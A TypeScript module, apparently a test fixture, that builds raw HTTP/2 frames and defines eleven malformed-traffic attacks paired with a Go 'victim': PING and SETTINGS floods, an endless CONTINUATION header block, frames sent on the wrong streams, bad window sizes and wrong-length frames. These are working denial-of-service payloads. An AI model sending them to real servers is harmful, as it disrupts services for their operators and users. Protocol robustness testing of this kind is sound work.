/** An HTTP/2 frame. */
function frame(type: number, flags: number, streamId: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

const many = (bytes: Buffer, times: number): Buffer => Buffer.alloc(bytes.length * times, bytes);

/** A stream of the host's that it has not opened yet. */
const idle = 0x7ffffff1;

const attacks: readonly (() => Buffer)[] = [
  // Floods: more than 10,000 at once.
  () => many(frame(6, 0, 0, Buffer.alloc(8)), 30_000),
  () => many(frame(4, 0, 0), 30_000),
  // A header block that never ends.
  () => Buffer.concat([frame(1, 0, idle), many(frame(9, 0, idle, Buffer.alloc(16_384)), 1_000)]),
  // Frames that may not come here.
  () => frame(0, 0, idle, Buffer.from('data')),
  () => frame(9, 4, idle),
  () => frame(5, 4, 1, Buffer.from([0, 0, 0, 2])),
  // Windows of no size and of too much.
  () => frame(8, 0, 0, Buffer.alloc(4)),
  () => many(frame(8, 0, 0, Buffer.from([0x7f, 0xff, 0xff, 0xff])), 2),
  // Frames of a wrong length.
  () => frame(0, 0, idle, Buffer.alloc(2 ** 20)),
  () => frame(4, 0, 0, Buffer.alloc(5)),
  () => frame(6, 0, 0, Buffer.alloc(7)),
];

/** The bytes of one attack. The Go victim has the same list. */
export const attackBytes = (variant: number): Buffer => attacks[variant % attacks.length]?.() ?? Buffer.alloc(0);
